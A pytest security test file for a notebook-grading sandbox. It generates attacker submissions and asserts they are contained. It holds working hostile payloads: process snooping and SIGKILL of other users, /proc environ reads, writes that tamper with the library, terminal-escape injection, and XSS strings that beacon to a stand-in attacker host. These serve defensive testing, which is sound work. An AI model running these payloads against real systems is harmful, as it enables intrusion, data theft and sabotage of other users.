"""The grading sandbox, attacked (issue 13): a learner cannot reach another learner, the grader, or
whoever reads the feedback.

Generated attackers (code only in their solution cells, or in cells a learner may add) are graded
next to two honest learners in ONE ``python -m grading`` run; the same two honest learners are graded
again in a run without the attackers. For every attack:

- ``attacker_snoop`` (graded first, with alice, by name order): looks for the other kernels' channels (the
  loopback's listening ports in /proc/net/tcp, the unix sockets in /proc/net/unix) and subscribes to
  every one it finds (zmq SUB: an output channel needs no key); signals every process of another
  user (and SIGKILLs every other sandbox uid's); reads /proc/<pid>/root and /proc/<pid>/environ of
  the others. It finds nothing, receives nothing of the honest learner's code or output.
- ``tamper_attacker``: writes the grader's pid into its sandbox's kernel.pid and terminal escapes into its
  isolation.txt, signals its parent, writes into bplib/ and the repository, leaves files in /tmp,
  /var/tmp and /dev/shm, prints its environment (the grader's holds an instructor's secret), raises
  an error whose message is terminal escapes, and returns a 400 MB array to the clean re-run (and
  writes 2,000 files where the re-run runs).
- ``page_attacker``: HTML with a script, event handlers, an iframe, a form and a javascript: link; a
  JavaScript output; an SVG with a script; an image whose "data" breaks out of its attribute; 500
  HTML displays of 6,000 characters (3 MB of rich output, none of it counted before; with many more
  messages nbclient's 4 s wait for the output channel can fail the whole notebook, the attacker's
  own loss); a markdown and a raw cell with scripts.

Then: the batch completes with a row for everyone; the honest learners keep full marks (bob: the
wrong function's) and rows identical to the run without the attackers; the attackers' rows say
why; the submissions, bplib/ and solutions/ are byte-for-byte unchanged; no file outlives the run;
the summary and grades.csv hold no control character; no page holds the secret; every page is
under 2 MB, carries the Content-Security-Policy, and, opened in headless Chromium with every
request refused, runs no learner script (the same browser runs a plain page's script: the check
can fail).

Runs as root (as CI does): the sandbox needs it (as non-root the grader stops unless
``--allow-weak-sandbox``; tested here too, without a grading run).
"""
import csv
import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import sys

import nbformat
import pytest

from grading import cli, kernel_launcher, synthetic
from mutants import _course

ROOT = synthetic.REPO
A = "dense_backward"
TIMEOUT = 10
SECRET_NAME, SECRET = "BP_INSTRUCTOR_SECRET", "tok-5ecret-9d1f"
MARKER = "HONEST-MARKER-7f3a"
OUTLIVE = ["/tmp/bp-attack-outlive", "/var/tmp/bp-attack-outlive", "/dev/shm/bp-attack-outlive"]
CHROMIUM = "/usr/bin/chromium"

pytestmark = [
    pytest.mark.skipif(not os.path.isfile(os.path.join(ROOT, "solutions", A, f"{A}.ipynb")),
                       reason="solutions/dense_backward not built"),
]
root_only = pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox needs root (CI runs as root)")

SNOOP = r'''
import os, json, time, socket
import zmq
_found = {"tcp_listening": 0, "tcp_connected": 0, "unix_channels": 0, "messages": 0, "marker": 0,
          "signalled": 0, "killed": 0, "proc_root_read": 0, "proc_environ_read": 0}
_me, _mine, _subs = os.getuid(), os.getcwd(), {}
_ctx = zmq.Context.instance()

def _subscribe(url):
    if url in _subs:
        return
    s = _ctx.socket(zmq.SUB)
    s.setsockopt(zmq.SUBSCRIBE, b"")
    s.setsockopt(zmq.LINGER, 0)
    s.connect(url)
    _subs[url] = s

try:
    get_ipython()
    _end = time.time() + 6            # in the learner's kernel: while the others are graded
except NameError:
    _end = 0                          # in the clean re-run: nothing to watch
while time.time() < _end:
    for _f in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            _lines = open(_f).read().splitlines()[1:]
        except OSError:
            _lines = []
        for _ln in _lines:
            _p = _ln.split()
            if len(_p) > 7 and _p[3] == "0A" and int(_p[7]) != _me:     # another user's listening port
                _port = int(_p[1].rsplit(":", 1)[1], 16)
                _found["tcp_listening"] += 1
                try:
                    socket.create_connection(("127.0.0.1", _port), timeout=0.2).close()
                    _found["tcp_connected"] += 1
                    _subscribe(f"tcp://127.0.0.1:{_port}")
                except OSError:
                    pass
    try:
        _lines = open("/proc/net/unix").read().splitlines()[1:]
    except OSError:
        _lines = []
    for _ln in _lines:
        _p = _ln.split()
        if len(_p) >= 8 and _p[7].startswith("/") and not _p[7].startswith(_mine):
            _found["unix_channels"] += 1
            try:
                _subscribe("ipc://" + _p[7])
            except Exception:
                pass
    for _pid in os.listdir("/proc"):
        if not _pid.isdigit() or int(_pid) == os.getpid():
            continue
        try:
            _uid = os.stat(f"/proc/{_pid}").st_uid
        except OSError:
            continue
        if _uid == _me:
            continue
        try:
            os.kill(int(_pid), 0)
            _found["signalled"] += 1
            if 62000 <= _uid <= 62999:
                os.kill(int(_pid), 9)
                _found["killed"] += 1
        except OSError:
            pass
        try:
            os.listdir(f"/proc/{_pid}/root/")
            _found["proc_root_read"] += 1
        except OSError:
            pass
        try:
            open(f"/proc/{_pid}/environ", "rb").read(1)
            _found["proc_environ_read"] += 1
        except OSError:
            pass
    for _s in list(_subs.values()):
        while _s.poll(10):
            _msg = b"".join(_s.recv_multipart())
            _found["messages"] += 1
            if b"HONEST-MARKER" in _msg:
                _found["marker"] += 1
                print("CAPTURED", _msg[:300])
    time.sleep(0.2)
print("SNOOP " + json.dumps(_found, sort_keys=True))
'''

TAMPER_TOP = r'''
import os, json, signal
_tried = {}
def _try(name, fn):
    try:
        fn()
        _tried[name] = "done"
    except Exception as e:
        _tried[name] = type(e).__name__
def _write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
_try("pid_file", lambda: _write("kernel.pid", str(os.getppid())))
_try("pid_file_1", lambda: _write(os.path.join(os.environ.get("HOME", "."), "kernel.pid"), "1"))
_try("isolation_text", lambda: _write("isolation.txt", "\x1b[2J\x1b]0;PWNED\x07runs as uid 0 \x1b[31mok\x1b[0m\r\n"))
_try("kill_parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
import bplib
_bp = os.path.dirname(bplib.__file__)
_try("write_bplib", lambda: _write(os.path.join(_bp, "__init__.py"), "\nraise SystemExit('pwned')\n", "a"))
_try("new_file_in_bplib", lambda: _write(os.path.join(_bp, "pwned.py"), "x = 1\n"))
_try("write_repo", lambda: _write(os.path.join(os.path.dirname(_bp), "PWNED"), "x"))
for _p in ("/tmp/bp-attack-outlive", "/var/tmp/bp-attack-outlive", "/dev/shm/bp-attack-outlive"):
    _try("outlive " + _p, lambda p=_p: _write(p, "still here"))
_try("many_files", lambda: [_write(f"flood{_i}.bin", "x" * 1000) for _i in range(2000)])
print("TAMPER " + json.dumps(_tried, sort_keys=True))
print("ENVIRONMENT " + json.dumps(dict(os.environ), sort_keys=True))
print("\x1b]0;PWNED-TITLE\x07\x1b[2J")
'''

PAGE_TOP = r'''
from IPython.display import display, HTML, Javascript, SVG, Markdown
_beacon = "http://attacker.invalid/"
display(HTML('<b>bold stays</b><script>document.title="PWNED"; fetch("' + _beacon + 'html-script")</script>'
             '<img src="x" onerror="document.title=\'PWNED\'; fetch(\'' + _beacon + 'onerror\')">'
             '<iframe src="' + _beacon + 'iframe"></iframe>'
             '<a id="jslink" href="javascript:document.title=\'PWNED\'">click</a>'
             '<form action="' + _beacon + 'form"><input name="q"></form>'
             '<div onmouseover="document.title=\'PWNED\'">hover</div>'
             '<style>body { background: url(' + _beacon + 'css) }</style>'
             '<object data="' + _beacon + 'object"></object>'))
display(Javascript('document.title = "PWNED"; fetch("' + _beacon + 'javascript")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>document.title="PWNED";'
            'fetch("' + _beacon + 'svg")</script><rect width="10" height="10"/></svg>'))
display({"image/png": '" onerror="document.title=\'PWNED\'; fetch(\'' + _beacon + 'png\')" x="'}, raw=True)
display(Markdown('<script>document.title="PWNED"</script>[link](javascript:document.title="PWNED")'))
for _i in range(500):
    display(HTML("<b>" + "x" * 6000 + "</b>"))
'''

PAGE_MARKDOWN = ('A note <script>document.title="PWNED"; fetch("http://attacker.invalid/markdown")</script>\n\n'
                 '<img src="x" onerror="document.title=\'PWNED\'">\n\n[a link](javascript:document.title="PWNED")')
PAGE_RAW = '<script>document.title="PWNED"; fetch("http://attacker.invalid/raw")</script><b>raw cell</b>'


def _sol_cells(nb):
    return [c for c in nb.cells if (c.metadata.get("nbgrader") or {}).get("solution")]


def _hash_tree(folder):
    h = {}
    for root, dirs, files in os.walk(folder):
        dirs[:] = [d for d in dirs if d != "__pycache__"]
        for f in files:
            if f.endswith(".pyc"):
                continue
            p = os.path.join(root, f)
            with open(p, "rb") as fh:
                h[os.path.relpath(p, folder)] = hashlib.sha256(fh.read()).hexdigest()
    return h


def _make(base, with_attackers):
    """A generated class: honest alice (correct, with a marker in her code and output) and bob
    (a wrong first function); plus the attackers."""
    cls = base / ("class" if with_attackers else "control")
    synthetic.make_class(A, str(cls), [("alice", "correct"), ("bob", "wrong")], work=str(cls) + "-release")
    alice = nbformat.read(cls / "alice.ipynb", as_version=4)
    _sol_cells(alice)[0].source += f"\n\n# {MARKER}: my own comment\nprint('{MARKER} in my output')\n"
    nbformat.write(alice, cls / "alice.ipynb")
    if not with_attackers:
        return cls
    good = nbformat.read(cls / "alice.ipynb", as_version=4)
    good_src = [c.source.replace(f"\n\n# {MARKER}: my own comment\nprint('{MARKER} in my output')\n", "")
                for c in _sol_cells(good)]
    fns = synthetic.functions(good)

    def attacker(name, edit):
        nb = nbformat.read(cls / "alice.ipynb", as_version=4)
        for c, src in zip(_sol_cells(nb), good_src):
            c.source = src
        edit(nb)
        nbformat.write(nb, cls / f"{name}.ipynb")

    def snoop(nb):
        _sol_cells(nb)[0].source += "\n" + SNOOP

    def tamper(nb):
        cells = _sol_cells(nb)
        cells[0].source += "\n" + TAMPER_TOP

        def defining(fn):
            return next(c for c in cells if re.search(rf"^def {fn}\(", c.source, re.M))
        # the second function raises an error made of terminal escapes, the third returns 400 MB
        defining(fns[1]).source += (f"\n\ndef {fns[1]}(*args, **kwargs):\n"
                                    f"    raise ValueError('\\x1b[2J\\x1b]0;PWNED\\x07\\x1b[31mboom\\r')\n")
        defining(fns[2]).source += (f"\n\nimport numpy as _np\n\ndef {fns[2]}(*args, **kwargs):\n"
                                    f"    return _np.ones(50_000_000), _np.ones(1)\n")

    def page(nb):
        _sol_cells(nb)[0].source += "\n" + PAGE_TOP
        nb.cells.append(nbformat.v4.new_markdown_cell(PAGE_MARKDOWN))
        nb.cells.append(nbformat.v4.new_raw_cell(PAGE_RAW))

    attacker("attacker_snoop", snoop)
    attacker("tamper_attacker", tamper)
    attacker("page_attacker", page)
    return cls


def _grade(cls, out):
    """``python -m grading`` of ``cls``, its environment holding an instructor's secret (its own only: not
    the test session's, which the grading runs beside this test start from)."""
    env = dict(_course.env(), **{SECRET_NAME: SECRET})
    r = subprocess.run([sys.executable, "-m", "grading", A, str(cls), "--out", str(out), "--seed", "7",
                        "--timeout", str(TIMEOUT), "--workers", "2", "--quiet"], cwd=ROOT, env=env,
                       capture_output=True, text=True, timeout=1500)
    with open(out / "grades.csv", newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    with open(out / "results.json") as f:
        results = json.load(f)
    return {"rc": r.returncode, "rows": rows, "results": results, "summary": r.stdout, "out": out}


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("the sandbox needs root (CI runs as root)")
    base = tmp_path_factory.mktemp("attacks")
    for p in OUTLIVE:
        if os.path.lexists(p):
            os.unlink(p)
    cls, control = _make(base, True), _make(base, False)
    before = {"class": _hash_tree(cls), "bplib": _hash_tree(os.path.join(ROOT, "bplib")),
              "solutions": _hash_tree(os.path.join(ROOT, "solutions", A))}
    attacked = _grade(cls, base / "out")
    clean = _grade(control, base / "out-control")
    after = {"class": _hash_tree(cls), "bplib": _hash_tree(os.path.join(ROOT, "bplib")),
             "solutions": _hash_tree(os.path.join(ROOT, "solutions", A))}
    return {"attacked": attacked, "clean": clean, "before": before, "after": after, "base": base}


def _page(run, student):
    with open(run["out"] / "feedback" / f"{student}.html", encoding="utf-8") as f:
        return f.read()


def _text(page_html):
    page_html = re.sub(r"(?is)<(style|script)\b.*?</\1>", " ", page_html)
    return html.unescape(re.sub(r"(?s)<[^>]+>", "", page_html))


def _said(run, student, tag):
    """The JSON the attacker printed after ``tag`` on its feedback page."""
    m = re.search(tag + r" (\{.*?\})\n", _text(_page(run, student)))
    assert m, f"{student} printed no {tag} line"
    return json.loads(m.group(1))


def _comparable(row):
    """A row without what names the other learners (the similarity check compares the whole class)."""
    row = {k: v for k, v in row.items() if k not in ("feedback", "similarity")}
    row["status"] = "; ".join(p for p in row["status"].split("; ") if not p.startswith("similar code: "))
    return row


# -- the batch -------------------------------------------------------------------------------------
def test_batch_completes_with_a_row_for_everyone(runs):
    a = runs["attacked"]
    assert a["rc"] == 0
    assert set(a["rows"]) == {"alice", "bob", "attacker_snoop", "tamper_attacker", "page_attacker"}
    for sid, row in a["rows"].items():
        assert "grader error" not in row["status"], (sid, row["status"])
        assert "not graded" not in row["status"], (sid, row["status"])


def test_honest_rows_are_identical_to_a_run_without_the_attackers(runs):
    a, c = runs["attacked"]["rows"], runs["clean"]["rows"]
    assert float(a["alice"]["score"]) == float(a["alice"]["max_score"]) == 13
    assert float(a["bob"]["score"]) == 8                     # the wrong first function's 5 points lost
    for sid in ("alice", "bob"):
        assert _comparable(a[sid]) == _comparable(c[sid]), sid
    assert _text(_page(runs["attacked"], "alice")).count(MARKER) == \
        _text(_page(runs["clean"], "alice")).count(MARKER) >= 1


def test_originals_bplib_and_solutions_are_unchanged(runs):
    before, after = runs["before"], runs["after"]
    assert after["class"] == before["class"] and after["solutions"] == before["solutions"]
    assert set(after["bplib"]) == set(before["bplib"])
    assert after["bplib"]["__init__.py"] == before["bplib"]["__init__.py"]      # what the attacker wrote to
    if os.environ.get("CI"):     # (a working tree shared with people editing bplib: the attacked files only)
        assert after["bplib"] == before["bplib"]
    assert not os.path.exists(os.path.join(ROOT, "PWNED"))
    assert not os.path.exists(os.path.join(ROOT, "bplib", "pwned.py"))


# -- learners are isolated from each other ----------------------------------------------------------
def test_a_kernel_cannot_see_connect_to_or_signal_another(runs):
    run = runs["attacked"]
    found = _said(run, "attacker_snoop", "SNOOP")
    assert found["tcp_listening"] == 0 and found["tcp_connected"] == 0, found    # its own loopback only
    assert found["unix_channels"] == 0 and found["messages"] == 0 and found["marker"] == 0, found
    assert found["signalled"] == 0 and found["killed"] == 0, found
    assert found["proc_root_read"] == 0 and found["proc_environ_read"] == 0, found
    for sid in ("attacker_snoop", "tamper_attacker", "page_attacker"):
        assert MARKER not in _page(run, sid), sid
    iso = " ".join(run["results"]["isolation"])
    assert "network namespace of its own" in iso and "runs as uid 62" in iso, iso


# -- the grader acts on nothing a kernel wrote ------------------------------------------------------
def test_the_grader_survives_a_tampered_sandbox(runs):
    run = runs["attacked"]
    tried = _said(run, "tamper_attacker", "TAMPER")
    assert tried["pid_file"] == "done"                # it could write the file: the grader never read it
    assert tried["kill_parent"] == "PermissionError"
    for k in ("write_bplib", "new_file_in_bplib", "write_repo"):
        assert tried[k] != "done", (k, tried)
    assert "PWNED" not in " ".join(run["results"]["isolation"])     # the notes are not the kernel's file


def test_no_control_characters_reach_the_summary_or_grades_csv(runs):
    run = runs["attacked"]
    row = run["rows"]["tamper_attacker"]
    assert "ValueError" in row["status"], row["status"]        # the kernel's message is shown ...
    for text in (run["summary"], open(run["out"] / "grades.csv", encoding="utf-8").read()):
        assert not re.search(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", text), repr(text[:200])   # ... cleaned


def test_one_learners_excess_costs_only_that_learner(runs):
    row = runs["attacked"]["rows"]["tamper_attacker"]
    assert float(row["score"]) <= 5, row                       # only dense_backward, its own code, passes
    assert row["softmax_cross_entropy_visible"] == "0" and row["relu_backward_visible"] == "0", row
    assert row["dense_backward_visible"] != "0", row


# -- the kernel's environment ---------------------------------------------------------------------
def test_the_kernel_gets_no_grader_variable(runs):
    run = runs["attacked"]
    env = _said(run, "tamper_attacker", "ENVIRONMENT")
    assert SECRET_NAME not in env and not any(k.startswith(("GRADING_HIDE", "JUPYTER", "DASK")) for k in env), env
    assert set(env) <= set(kernel_launcher.ENV_ALLOW) | {
        "PATH", "HOME", "TMPDIR", "IPYTHONDIR", "MPLCONFIGDIR", "MPLBACKEND", "OPENBLAS_NUM_THREADS",
        "OMP_NUM_THREADS", "MKL_NUM_THREADS", "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE",
        "PYDEVD_DISABLE_FILE_VALIDATION", "JPY_SESSION_NAME", "CLICOLOR", "FORCE_COLOR", "TERM", "PAGER",
        "GIT_PAGER", "COLUMNS", "LINES", "CLICOLOR_FORCE", "PYDEVD_USE_FRAME_EVAL"}, sorted(env)
    for d in ("feedback",):
        for f in os.listdir(run["out"] / d):
            assert SECRET not in open(run["out"] / d / f, encoding="utf-8").read(), f
    for root, _, files in os.walk(run["out"] / "course" / "autograded"):
        for f in files:
            assert SECRET not in open(os.path.join(root, f), encoding="utf-8").read(), f


# -- nothing outlives the run -----------------------------------------------------------------------
def test_no_file_outlives_the_kernel(runs):
    tried = _said(runs["attacked"], "tamper_attacker", "TAMPER")
    assert all(tried[f"outlive {p}"] == "done" for p in OUTLIVE), tried    # written, in its private folders
    for p in OUTLIVE:
        assert not os.path.lexists(p), p
    leftovers = []
    for d in ("/tmp", "/var/tmp", "/dev/shm"):
        for e in os.scandir(d):
            st = e.stat(follow_symlinks=False)
            if 62000 <= st.st_uid <= 62999:
                leftovers.append(e.path)
    assert not leftovers, leftovers


# -- feedback pages are inert -----------------------------------------------------------------------
def test_feedback_pages_are_small_inert_html_with_a_csp(runs):
    run = runs["attacked"]
    for sid in run["rows"]:
        page = _page(run, sid)
        assert len(page.encode()) < 2 * 1024 * 1024, (sid, len(page))
        assert 'http-equiv="Content-Security-Policy"' in page.split("</head>")[0], sid
        assert "script-src &#39;none&#39;" in page or "script-src 'none'" in page, sid
        assert not re.search(r"(?i)<(script|iframe|object|embed|form)\b", page), sid
        assert not re.search(r"(?i)<[a-z][^>]*\son[a-z]+\s*=", page), sid          # no event handler in a tag
        assert not re.search(r'(?i)<[a-z][^>]*\s(href|src)\s*=\s*["\']?\s*javascript:', page), sid   # in a tag
        # (the learner's code, shown highlighted and escaped, may say all of this as text)
    text = _text(_page(run, "page_attacker"))
    assert "bold stays" in text                                     # sanitised, not dropped
    assert "cut to stay under 2 MB" in text or "output cut" in text  # the cut is said
    assert "application/javascript" in text                          # what was not shown is named
    assert "printed more than the output limit" in run["rows"]["page_attacker"]["status"]


@pytest.fixture(scope="module")
def browser():
    if not os.path.exists(CHROMIUM):
        if os.environ.get("CI"):
            pytest.fail("Chromium is not installed at /usr/bin/chromium (apt-get install -y chromium)")
        pytest.skip("Chromium is not installed at /usr/bin/chromium")
    from playwright import sync_api
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--disable-gpu", "--disable-quic"])
        yield b
        b.close()


def _open(browser, path):
    """Open a page with every request refused; returns (title, requests made, dialogs)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, offline=True)
    page = context.new_page()
    requests, dialogs = [], []

    def refuse(route):
        url = route.request.url
        if url.startswith(("data:", "about:")) or url == path.as_uri():
            route.continue_()
        else:
            requests.append(url)
            route.abort()
    page.route("**/*", refuse)
    page.on("request", lambda r: None if r.url.startswith(("data:", "about:", "file:")) else requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(path.as_uri(), wait_until="load")
    for sel in ("#jslink", "a"):
        try:
            page.click(sel, timeout=500)
        except Exception:   # noqa: BLE001  (no such link: nothing to click)
            pass
    page.mouse.move(400, 400)
    page.wait_for_timeout(300)
    title = page.evaluate("document.title")
    context.close()
    return title, sorted(set(requests)), dialogs


def test_feedback_pages_run_no_learner_script_in_a_browser(runs, browser, tmp_path):
    control = tmp_path / "control.html"
    control.write_text('<html><head><title>t</title></head><body><script>document.title="PWNED"</script></body></html>')
    assert _open(browser, control)[0] == "PWNED"               # this browser runs a plain page's script
    run = runs["attacked"]
    for sid in ("page_attacker", "tamper_attacker", "attacker_snoop", "alice"):
        title, requests, dialogs = _open(browser, run["out"] / "feedback" / f"{sid}.html")
        assert "PWNED" not in title, (sid, title)
        assert requests == [] and dialogs == [], (sid, requests, dialogs)


# -- never a root kernel ----------------------------------------------------------------------------
@root_only
def test_a_root_kernel_is_refused_unless_accepted(tmp_path):
    """The launcher refuses to start a kernel it cannot run as a sandbox uid (GRADING_UID=-1 stands for
    'no uid switch possible'); with the instructor's consent it starts, and its notes say it is weak."""
    work = tmp_path / "w"
    work.mkdir()
    os.chmod(work, 0o711)
    env = {k: v for k, v in os.environ.items() if not k.startswith("GRADING_")}

    def probe(extra):
        box, notes = work / f"box{len(extra)}", work / f"notes{len(extra)}"
        box.mkdir()
        e = dict(env, GRADING_SANDBOX=str(box), GRADING_UID="-1", GRADING_REPORT=str(notes), **extra)
        p = subprocess.run([sys.executable, kernel_launcher.__file__, "--probe", str(box)], env=e,
                           capture_output=True, text=True, timeout=60)
        return p.returncode, p.stdout, notes.read_text()
    rc, out, notes = probe({})
    assert rc == 3 and "refused: the kernel would run as root" in notes, (rc, out, notes)
    rc, out, notes = probe({"GRADING_ALLOW_WEAK_SANDBOX": "1"})
    assert rc == 0 and "probe ok" in out and "runs as uid" not in notes, (rc, out, notes)
    assert "uid 0 without capabilities" in notes, notes
    # and the real sandbox of this machine passes the grader's check
    from grading import engine
    problem, notes = kernel_launcher.check_sandbox(engine.hidden_paths(), 62998, str(work))
    assert problem is None and "runs as uid 62998" in notes, (problem, notes)


def test_the_kernel_boots_ipykernel_without_its_debugger():
    """KERNEL_BOOT runs ipykernel_launcher as __main__ with debugpy made unimportable (issue 18: its import
    was a third of a kernel's start); ipykernel then runs without a debugger, as it does where debugpy is
    not installed."""
    probe = ("import ipykernel.kernelapp, sys; from ipykernel import debugger; "
             "print(debugger._is_debugpy_available, sys.modules.get('debugpy'))")
    r = subprocess.run([sys.executable, "-c", kernel_launcher.NO_DEBUGGER + probe], capture_output=True, text=True,
                       timeout=120)
    assert r.stdout.split() == ["False", "None"], r.stderr
    assert kernel_launcher.KERNEL_BOOT.startswith(kernel_launcher.NO_DEBUGGER)
    assert "run_module('ipykernel_launcher', run_name='__main__'" in kernel_launcher.KERNEL_BOOT


def test_an_unreadable_interpreter_is_found():
    import tempfile
    top = tempfile.mkdtemp(prefix="bp-reach-", dir="/tmp")      # pytest's own tmp folders are 0700
    try:
        d = os.path.join(top, "private")
        os.makedirs(d)
        f = os.path.join(d, "python")
        open(f, "w").close()
        os.chmod(f, 0o755)
        os.chmod(top, 0o755)
        os.chmod(d, 0o700)
        assert not kernel_launcher.reachable_by_others(f)          # a private pyenv or conda in a home folder
        os.chmod(d, 0o755)
        assert kernel_launcher.reachable_by_others(f)
    finally:
        shutil.rmtree(top)


def test_the_grader_stops_without_a_sandbox_unless_told(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(cli, "sandbox_problem", lambda args: "the grader is not root (simulated)")
    cls = tmp_path / "class"
    cls.mkdir()
    rc = cli.main([A, str(cls), "--out", str(tmp_path / "out"), "--quiet"])
    assert rc == 2
    err = capsys.readouterr().err
    assert "cannot run learners' kernels as an unprivileged user" in err and "--allow-weak-sandbox" in err


# -- the parts, fast (no grading run) ---------------------------------------------------------------
def test_sanitize_keeps_text_and_removes_every_active_part():
    from grading.feedback import inert
    dirty = ('<b>kept</b><script>alert(1)</script><img src="x" onerror="alert(1)"><iframe src="//x"></iframe>'
             '<a href="javascript:alert(1)">j</a><a href=" JaVaScRiPt:alert(1)">k</a><form><input></form>'
             '<svg onload="alert(1)"></svg><div style="position:fixed">s</div><a href="data:text/html,x">d</a>'
             '<object data="x"></object><table><tr><td>cell</td></tr></table>')
    clean = inert.sanitize(dirty)
    assert "<b>kept</b>" in clean and "<td>cell</td>" in clean
    assert not re.search(r"(?i)<(script|iframe|form|input|svg|object)\b", clean), clean
    assert not re.search(r"(?i)\s(on\w+|style)\s*=", clean), clean
    assert "javascript:" not in clean.lower() and 'href="data:' not in clean, clean
    assert "alert(1)" in html.unescape(clean)            # a script's text is shown as text, not run


def test_make_inert_rewrites_outputs_and_counts_them_all():
    from grading.feedback import inert
    nb = nbformat.v4.new_notebook()
    c = nbformat.v4.new_code_cell("x")
    c.outputs = [nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
                 nbformat.v4.new_output("display_data", data={"image/png": '" onerror="alert(1)'}),
                 nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg><script>alert(1)</script></svg>"}),
                 nbformat.v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {}})]
    c.outputs += [nbformat.v4.new_output("display_data", data={"text/html": "<b>" + "x" * 2000 + "</b>"})
                  for _ in range(1500)]
    nb.cells = [c, nbformat.v4.new_raw_cell("<script>alert(1)</script>")]
    nb.metadata["widgets"] = {"state": "<script>"}
    cut = inert.make_inert(nb, budget=100_000)
    outs = nb.cells[0].outputs
    text = json.dumps(nb)
    assert "application/javascript" not in [m for o in outs for m in o.get("data", {})]
    assert "image/png" not in [m for o in outs for m in o.get("data", {})]
    assert "data:image/svg+xml;base64," in text and "<svg><script>" not in text
    assert "widgets" not in nb.metadata and nb.cells[1].cell_type == "markdown" and "&lt;script&gt;" in text
    assert len(text) < 200_000 and cut and "are not shown" in outs[-1]["text"]


def test_cap_output_counts_rich_outputs():
    from grading.preprocessors import CapOutput
    c = nbformat.v4.new_code_cell("x")
    c.outputs = [nbformat.v4.new_output("display_data", data={"text/html": "<b>" + "x" * 2000 + "</b>"})
                 for _ in range(1500)]
    c, _ = CapOutput(max_chars=20000).preprocess_cell(c, {}, 0)
    assert len(json.dumps(c.outputs)) < 30000 and "[grader: output cut, " in c.outputs[-1]["text"]
